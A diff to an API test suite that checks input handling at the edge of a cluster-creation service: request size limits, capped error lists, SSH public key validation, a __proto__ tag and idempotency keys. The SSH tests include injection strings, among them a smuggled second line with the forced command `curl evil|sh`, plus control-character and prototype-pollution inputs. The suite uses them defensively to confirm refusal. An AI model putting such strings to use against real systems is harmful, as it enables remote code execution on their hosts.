@@ -1,9 +1,15 @@
-// A battery of malformed requests: every one gets a 4xx with the error envelope (never a 5xx) and nothing is
-// created: no orchestration, no cluster record, no Azure call that changes anything.
+// Bad input at the API's edge, against one local stack: a battery of malformed requests (every one gets a 4xx with
+// the error envelope, never a 5xx, and nothing is created: no orchestration, no cluster record, no Azure call that
+// changes anything), then one section for each rule that needed more than a battery entry. The sections that
+// create clusters come last, after the battery has checked that nothing started.
 import assert from 'node:assert/strict';
-import { after, before, test } from 'node:test';
+import fs from 'node:fs';
+import path from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { maxBodyBytes } from '../../../src/api/json';
 import { sshRsaPublicKey } from '../../../local/support/ssh-key';
 import { assertMatchesContract } from '../../support/contract';
+import { repoRoot } from '../../support/process';
 import { call, startTestStack, type ApiAnswer } from '../../support/stack';
 
 let stack: Awaited<ReturnType<typeof startTestStack>>;
@@ -221,3 +227,170 @@ async function assertNothingStarted(): Promise<void> {
   const writes = Object.entries(calls).filter(([operation]) => /^(PUT|POST|DELETE|PATCH)/.test(operation));
   assert.deepEqual(writes, [], 'no Azure resource may be touched for a bad request');
 }
+
+// The host's request size limit is set close to the app's own 64 KiB check (FUNCTIONS_REQUEST_BODY_SIZE_LIMIT),
+// locally and in the infrastructure, so a 100 MB body is refused by the host before it is read whole.
+describe('request size', () => {
+  const ceiling = 1024 * 1024;
+
+  function checkLimit(where: string, value: unknown): void {
+    assert.ok(value !== undefined, `${where} sets FUNCTIONS_REQUEST_BODY_SIZE_LIMIT`);
+    const bytes = Number(value);
+    assert.ok(bytes >= maxBodyBytes && bytes <= ceiling, `${where}: FUNCTIONS_REQUEST_BODY_SIZE_LIMIT is ${String(value)}`);
+  }
+
+  test('the app settings locally and in the infrastructure set the host request size limit near 64 KiB', () => {
+    const sample = JSON.parse(fs.readFileSync(path.join(repoRoot, 'local.settings.sample.json'), 'utf8'));
+    checkLimit('local.settings.sample.json', sample.Values?.FUNCTIONS_REQUEST_BODY_SIZE_LIMIT);
+    checkLimit('the local stack', stack.settings.FUNCTIONS_REQUEST_BODY_SIZE_LIMIT);
+    const bicep = fs
+      .readdirSync(path.join(repoRoot, 'infra'), { recursive: true })
+      .filter((file) => String(file).endsWith('.bicep'))
+      .map((file) => fs.readFileSync(path.join(repoRoot, 'infra', String(file)), 'utf8'))
+      .join('\n');
+    // `FUNCTIONS_REQUEST_BODY_SIZE_LIMIT: '<bytes>'` in an app settings object (or name/value pair).
+    const setting = /FUNCTIONS_REQUEST_BODY_SIZE_LIMIT'?\s*[:,]\s*(?:value:\s*)?'?(\d+)/.exec(bicep);
+    checkLimit('infra/', setting?.[1]);
+  });
+
+  test('a body far over the limit is refused without being read whole', async () => {
+    const url = `${stack.apiBaseUrl}/clusters`;
+    const total = 100 * 1024 * 1024;
+    let sent = 0;
+    const chunk = Buffer.alloc(64 * 1024, 0x20);
+    const body = new ReadableStream<Uint8Array>({
+      pull(controller) {
+        if (sent >= total) return controller.close();
+        sent += chunk.length;
+        controller.enqueue(chunk);
+      },
+    });
+    const status = await fetch(url, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body,
+      duplex: 'half',
+    } as RequestInit & { duplex: 'half' })
+      .then((response) => response.status)
+      .catch(() => 413); // the server may close the connection while the body is still being sent
+    assert.equal(status, 413);
+    // Socket buffers hold a few megabytes; reading the whole body would take all of it.
+    assert.ok(sent < 20 * 1024 * 1024, `the client could send ${sent} bytes before a ${total}-byte body was refused`);
+  });
+});
+
+// A 400 for a request with thousands of problems stays small: the details are capped and the answer says how
+// many were left out.
+describe('a 400 with thousands of problems', () => {
+  test('3,000 bad tags get a short 400 that says how many problems were not listed', async () => {
+    const tags: Record<string, number> = {};
+    for (let i = 0; i < 3000; i++) tags[`t${i}`] = i; // numbers where strings are required
+    const body = { name: 'tags1', linuxProfile: { sshPublicKey: sshRsaPublicKey() }, tags };
+    assert.ok(JSON.stringify(body).length < 64 * 1024, 'the request fits the size limit');
+    const answer = await call('POST', `${stack.apiBaseUrl}/clusters`, { body });
+    assert.equal(answer.status, 400, answer.text.slice(0, 300));
+    assertMatchesContract('/clusters', 'post', 400, answer.json());
+    const details = answer.json().error.details ?? [];
+    assert.ok(details.length <= 100, `${details.length} details in one answer`);
+    assert.ok(answer.text.length <= 32 * 1024, `the answer is ${answer.text.length} bytes`);
+    // The total (3,001 problems: 3,000 values and the tag count) or the number left out is stated.
+    const omitted = 3001 - details.length;
+    assert.ok(
+      [3000, 3001, omitted, omitted - 1].some((count) =>
+        new RegExp(`\\b${count}\\b|\\b${count.toLocaleString('en-US')}\\b`).test(answer.text),
+      ),
+      `the answer says how many problems it left out: ${answer.json().error.message}`,
+    );
+  });
+});
+
+// linuxProfile.sshPublicKey is exactly one line `ssh-rsa <base64> [comment]` without control characters:
+// a second line (a forced command with another key) would reach the VMs' authorized keys.
+describe('linuxProfile.sshPublicKey', () => {
+  const otherKey = sshRsaPublicKey(2048, 'attacker@example');
+
+  test('a key followed by a second line is refused at the edge and nothing is created', async () => {
+    const cases: Array<[string, string]> = [
+      ['a forced command on a second line', `${key}\ncommand="curl evil|sh" ${otherKey}`],
+      ['a second key after a carriage return', `${key}\r${otherKey}`],
+      ['a second key after CRLF', `${key}\r\n${otherKey}`],
+      ['a NUL in the comment', `${key.replace('tester@example', 'tester\u0000@example')}`],
+      ['an escape sequence in the comment', `${key.replace('tester@example', '\u001b[31mtester@example')}`],
+      ['a tab in the comment', `${key.replace('tester@example', 'tester\t@example')}`],
+    ];
+    for (const [index, [what, sshPublicKey]] of cases.entries()) {
+      const name = `sshkey${index}`;
+      const answer = await call('POST', `${stack.apiBaseUrl}/clusters`, { body: { name, linuxProfile: { sshPublicKey } } });
+      assert.equal(answer.status, 400, `${what}: ${answer.status} ${answer.text.slice(0, 300)}`);
+      assertMatchesContract('/clusters', 'post', 400, answer.json());
+      const targets = [answer.json().error.target, ...(answer.json().error.details ?? []).map((detail: any) => detail.target)];
+      assert.ok(targets.includes('linuxProfile.sshPublicKey'), `${what}: the error names linuxProfile.sshPublicKey: ${answer.text}`);
+      assert.equal((await call('GET', `${stack.apiBaseUrl}/clusters/${name}`)).status, 404, `${what}: nothing was created`);
+    }
+  });
+
+  test('one line with a comment is still accepted', async () => {
+    const answer = await call('POST', `${stack.apiBaseUrl}/clusters`, { body: { name: 'sshok1', linuxProfile: { sshPublicKey: key } } });
+    assert.equal(answer.status, 202, answer.text);
+    assert.equal(answer.json().properties.linuxProfile.sshPublicKey, key);
+  });
+});
+
+// A tag named __proto__ is either refused or kept like any other tag; it is never dropped silently.
+describe('a __proto__ tag', () => {
+  test('a __proto__ tag is refused with a 400 naming it, or kept', async () => {
+    // Written as JSON text: an object literal with __proto__ would set a prototype instead of a property.
+    const raw = `{"name":"proto1","linuxProfile":{"sshPublicKey":${JSON.stringify(sshRsaPublicKey())}},"tags":{"team":"a","__proto__":"x"}}`;
+    const answer = await call('POST', `${stack.apiBaseUrl}/clusters`, { rawBody: raw, headers: { 'content-type': 'application/json' } });
+    if (answer.status === 400) {
+      const error = answer.json().error;
+      const targets = [error.target, ...(error.details ?? []).map((detail: any) => detail.target)];
+      assert.ok(
+        targets.some((target) => String(target).includes('__proto__')),
+        `the refusal names the tag: ${answer.text}`,
+      );
+      return;
+    }
+    assert.equal(answer.status, 202, answer.text);
+    const tags = answer.json().tags;
+    assert.ok(Object.prototype.hasOwnProperty.call(tags, '__proto__'), `the tag is kept: ${JSON.stringify(tags)}`);
+    assert.equal(tags['__proto__'], 'x');
+    const read = (await call('GET', `${stack.apiBaseUrl}/clusters/proto1`)).text;
+    assert.match(read, /"__proto__":"x"/, 'the stored cluster keeps it too');
+  });
+});
+
+// An Idempotency-Key binds to a request that was accepted: a request refused with 409 (or 400) does not use
+// the key up, so the client can send its corrected request with the same key.
+describe('an Idempotency-Key and a refused request', () => {
+  const sshPublicKey = key;
+
+  test('a key sent with a refused request can be used by the next request', async () => {
+    const first = await call('POST', `${stack.apiBaseUrl}/clusters`, { body: { name: 'idem1', linuxProfile: { sshPublicKey } } });
+    assert.equal(first.status, 202, first.text);
+    // Same name, another specification: 409, and the key is not bound to it.
+    const conflicting = { name: 'idem1', masterProfile: { count: 3 }, linuxProfile: { sshPublicKey } };
+    const refused = await call('POST', `${stack.apiBaseUrl}/clusters`, { body: conflicting, headers: { 'idempotency-key': 'idem-key-1' } });
+    assert.equal(refused.status, 409, refused.text);
+    assert.equal(refused.json().error.code, 'ClusterConflict');
+    const corrected = await call('POST', `${stack.apiBaseUrl}/clusters`, {
+      body: { name: 'idem2', linuxProfile: { sshPublicKey } },
+      headers: { 'idempotency-key': 'idem-key-1' },
+    });
+    assert.equal(corrected.status, 202, `the key of a refused request is still free: ${corrected.status} ${corrected.text}`);
+    assert.equal(corrected.json().name, 'idem2');
+  });
+
+  test('a key sent with an invalid request can be used by the next request', async () => {
+    const invalid = await call('POST', `${stack.apiBaseUrl}/clusters`, {
+      body: { name: 'idem3', linuxProfile: { sshPublicKey: 'ssh-rsa not-a-key' } },
+      headers: { 'idempotency-key': 'idem-key-2' },
+    });
+    assert.equal(invalid.status, 400, invalid.text);
+    const corrected = await call('POST', `${stack.apiBaseUrl}/clusters`, {
+      body: { name: 'idem3', linuxProfile: { sshPublicKey } },
+      headers: { 'idempotency-key': 'idem-key-2' },
+    });
+    assert.equal(corrected.status, 202, `the key of an invalid request is still free: ${corrected.status} ${corrected.text}`);
+  });
+});
